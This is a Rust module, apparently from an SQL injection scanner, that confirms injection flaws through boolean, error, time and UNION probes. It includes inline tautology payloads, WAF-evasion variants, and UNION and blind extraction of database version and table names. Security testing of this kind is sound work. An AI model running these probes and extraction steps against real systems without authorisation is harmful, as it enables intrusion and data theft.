//! Injection confirmation engine
//!
//! Runs the detection stages for one (surface, parameter) pair strictly in
//! order: boolean, error, time, union, then optional blind extraction. Without
//! `advanced_mode` the first confirming stage ends detection; with it every
//! stage runs and evidence accumulates. Request failures are logged and count
//! as "no evidence" for that probe only.

use super::blind::{self, BooleanOracle};
use super::comparator::responses_differ;
use super::mutation::{build_full_payload, derive_prefix};
use super::payloads::PayloadCategory;
use super::{fingerprint, finding_endpoint, sql_errors, union, waf, ProbeKind, ProbeSignal, ScanContext};
use crate::events::LogLevel;
use crate::models::{
    AttackSurface, CapturedResponse, Dbms, ExploitInfo, Finding, FindingStatus, SqlInjectionDetail,
    Technique,
};

/// Evidence gathered across stages
struct Confirmation {
    techniques: Vec<Technique>,
    evidence: Vec<String>,
    payload: Option<String>,
    oracle: Option<BooleanOracle>,
    exploit_info: ExploitInfo,
    exploited: bool,
}

impl Confirmation {
    fn new() -> Self {
        Self {
            techniques: Vec::new(),
            evidence: Vec::new(),
            payload: None,
            oracle: None,
            exploit_info: ExploitInfo::default(),
            exploited: false,
        }
    }

    fn confirmed(&self) -> bool {
        !self.techniques.is_empty()
    }

    fn record(&mut self, technique: Technique, payload: &str, evidence: String) {
        if !self.techniques.contains(&technique) {
            self.techniques.push(technique);
        }
        if self.payload.is_none() {
            self.payload = Some(payload.to_string());
        }
        self.evidence.push(evidence);
    }
}

/// Whether a time payload only makes sense against another engine
pub fn time_payload_applies(payload: &str, dbms: Dbms) -> bool {
    let p = payload.to_ascii_lowercase();
    match dbms {
        Dbms::Unknown => true,
        Dbms::MySql => {
            (p.contains("sleep(") && !p.contains("pg_sleep") && !p.contains("dbms_lock")) || p.contains("benchmark")
        }
        Dbms::PostgreSql => p.contains("pg_sleep"),
        Dbms::MsSql => p.contains("waitfor"),
        Dbms::Oracle => p.contains("dbms_lock.sleep"),
        Dbms::Sqlite => p.contains("randomblob"),
    }
}

/// Runs every enabled technique against `param` and returns the finding, if any.
/// `initial_probe` is the crawl-side probe that showed promise.
pub async fn confirm(
    ctx: &ScanContext,
    surface: &AttackSurface,
    param: &str,
    baseline: &CapturedResponse,
    initial_probe: &str,
    signal: &ProbeSignal,
) -> Option<Finding> {
    let options = &ctx.options;
    let tuning = &options.tuning;
    let stacking = options.advanced_mode;

    let prefix = derive_prefix(initial_probe);
    ctx.prober.log(
        LogLevel::Info,
        &format!(
            "Confirming '{param}' @ {} (probe {initial_probe:?}, prefix {prefix:?})",
            surface.action
        ),
    );

    let waf_detected = options.waf_detection && waf::detect_waf(&ctx.prober, surface, param).await;
    let dbms = fingerprint::fingerprint(ctx, surface, param, &prefix).await;
    let mut state = Confirmation::new();

    // Boolean
    if options.boolean_based && (stacking || !state.confirmed()) {
        for (true_core, false_core) in ctx.payloads.boolean_pairs() {
            if ctx.prober.is_stopped() {
                break;
            }
            let profile = ctx.mutator.profile();
            let true_payload = profile.apply(&build_full_payload(&prefix, true_core, dbms), dbms);
            let false_payload = profile.apply(&build_full_payload(&prefix, false_core, dbms), dbms);

            let true_resp = ctx.prober.send(surface, param, &true_payload, ProbeKind::Boolean).await;
            let false_resp = ctx.prober.send(surface, param, &false_payload, ProbeKind::Boolean).await;
            let (true_resp, false_resp) = match (true_resp, false_resp) {
                (Ok(t), Ok(f)) => (t, f),
                (Err(e), _) | (_, Err(e)) => {
                    ctx.prober.log(
                        LogLevel::Error,
                        &format!("Boolean pair {true_payload:?}/{false_payload:?} failed: {e}"),
                    );
                    continue;
                }
            };

            let pair_differs =
                responses_differ(&true_resp, &false_resp, tuning.pair_tolerance, tuning.length_floor);
            let true_like_base =
                !responses_differ(&true_resp, baseline, tuning.diff_tolerance, tuning.length_floor);
            let false_like_base =
                !responses_differ(&false_resp, baseline, tuning.diff_tolerance, tuning.length_floor);

            if pair_differs && (true_like_base || false_like_base) {
                ctx.prober.log(
                    LogLevel::Vuln,
                    &format!(
                        "Boolean-based confirmed on '{param}': TRUE {true_payload:?} ({} chars) vs FALSE {false_payload:?} ({} chars)",
                        true_resp.body.len(),
                        false_resp.body.len()
                    ),
                );
                state.record(
                    Technique::BooleanBased,
                    &true_payload,
                    format!("Boolean diff: TRUE (\"{true_payload}\") vs FALSE (\"{false_payload}\")"),
                );
                state.oracle = Some(BooleanOracle {
                    true_response: true_resp,
                    false_response: false_resp,
                });
                break;
            }
        }
    }

    // Error
    if options.error_based && (stacking || !state.confirmed()) {
        let mut cores: Vec<String> = ctx.payloads.get(PayloadCategory::Error).to_vec();
        if prefix == "'" && initial_probe == "'" && *signal == ProbeSignal::ResponseDiff {
            cores.insert(0, "OR 1=1".to_string());
            cores.insert(0, "OR '1'='1'".to_string());
        }

        'error: for core in &cores {
            let raw = build_full_payload(&prefix, core, dbms);
            let mut candidates = vec![ctx.mutator.mutate(&raw, dbms)];
            if waf_detected {
                candidates.extend(waf::adaptive_variants(&raw).into_iter().skip(1));
            }

            for payload in candidates {
                if ctx.prober.is_stopped() {
                    break 'error;
                }
                match ctx.prober.send(surface, param, &payload, ProbeKind::Error).await {
                    Ok(resp) => {
                        if let Some(m) = sql_errors::detect(&resp.body) {
                            ctx.prober.log(
                                LogLevel::Vuln,
                                &format!("Error-based confirmed on '{param}' with {payload:?} ({})", m.matched),
                            );
                            state.record(
                                Technique::ErrorBased,
                                &payload,
                                format!("Error detected: \"{}\" with payload \"{payload}\"", m.matched),
                            );
                            break 'error;
                        }
                    }
                    Err(e) => ctx.prober.log(
                        LogLevel::Error,
                        &format!("Error-based probe {payload:?} failed: {e}"),
                    ),
                }
            }
        }
    }

    // Time
    if options.time_based && (stacking || !state.confirmed()) {
        let base_ms = baseline.elapsed_ms.max(tuning.min_baseline_ms);
        let lower_ms = base_ms + tuning.time_delay_threshold_ms;
        let upper_ms = ctx.prober.timeout_ms().saturating_sub(tuning.timeout_margin_ms);

        for core in ctx.payloads.get(PayloadCategory::Time) {
            if ctx.prober.is_stopped() {
                break;
            }
            if !time_payload_applies(core, dbms) {
                continue;
            }
            let payload = ctx.mutator.mutate(&build_full_payload(&prefix, core, dbms), dbms);
            match ctx.prober.send(surface, param, &payload, ProbeKind::Time).await {
                Ok(resp) if resp.elapsed_ms > lower_ms && resp.elapsed_ms < upper_ms => {
                    ctx.prober.log(
                        LogLevel::Vuln,
                        &format!("Time-based confirmed on '{param}' with {payload:?} ({}ms)", resp.elapsed_ms),
                    );
                    state.record(
                        Technique::TimeBased,
                        &payload,
                        format!("Delayed response ({}ms) with payload \"{payload}\"", resp.elapsed_ms),
                    );
                    break;
                }
                Ok(_) => {}
                Err(e) => ctx.prober.log(
                    LogLevel::Error,
                    &format!("Time-based probe {payload:?} failed: {e}"),
                ),
            }
        }
    }

    // Union: only once exploitability is established
    let union_eligible = state.confirmed()
        && (state.techniques.contains(&Technique::ErrorBased)
            || state.techniques.contains(&Technique::BooleanBased)
            || stacking);
    if options.union_based && union_eligible && !ctx.prober.is_stopped() {
        match union::determine_column_count(ctx, surface, param, &prefix, dbms).await {
            Some(columns) => {
                ctx.prober.log(
                    LogLevel::Info,
                    &format!("UNION column count for '{param}': {columns}"),
                );
                let info = union::extract(ctx, surface, param, &prefix, dbms, columns).await;
                if info.version.is_some() || !info.tables.is_empty() {
                    let payload = build_full_payload(&prefix, &union::union_select(columns, None, dbms), dbms);
                    let tables = if info.tables.is_empty() {
                        "N/A".to_string()
                    } else {
                        info.tables.join(", ")
                    };
                    state.record(
                        Technique::UnionBased,
                        &payload,
                        format!(
                            "UNION successful. Cols: {columns}. Version: {}. Tables: {tables}",
                            info.version.as_deref().unwrap_or("N/A")
                        ),
                    );
                    state.exploit_info = info;
                    state.exploited = true;
                }
            }
            None => ctx.prober.log(
                LogLevel::Warn,
                &format!("Could not determine UNION column count for '{param}'"),
            ),
        }
    }

    // Blind
    if options.blind_extraction && stacking && !state.exploited && !ctx.prober.is_stopped() {
        if let Some(oracle) = state.oracle.take() {
            if let Some(version) = blind::extract_version(ctx, surface, param, &prefix, dbms, &oracle).await {
                state
                    .evidence
                    .push(format!("Blind extraction recovered version \"{version}\""));
                state.exploit_info.blind_version = Some(version);
                state.exploited = true;
            }
        }
    }

    let Some(payload) = state.payload.clone() else {
        ctx.prober.log(
            LogLevel::Info,
            &format!(
                "SQLi not confirmed for '{param}' @ {} (prefix {prefix:?}, DBMS {dbms})",
                surface.action
            ),
        );
        return None;
    };

    let status = if state.exploited {
        FindingStatus::Exploited
    } else {
        FindingStatus::Confirmed
    };
    let detail = SqlInjectionDetail {
        parameter: param.to_string(),
        payload: payload.clone(),
        technique: state.techniques[0],
        techniques: state.techniques,
        dbms,
        exploit_info: state.exploit_info,
        waf_detected,
    };

    Some(Finding::sql_injection(
        finding_endpoint(surface, param, &payload),
        surface.action.clone(),
        surface.method,
        status,
        &state.evidence,
        detail,
    ))
}
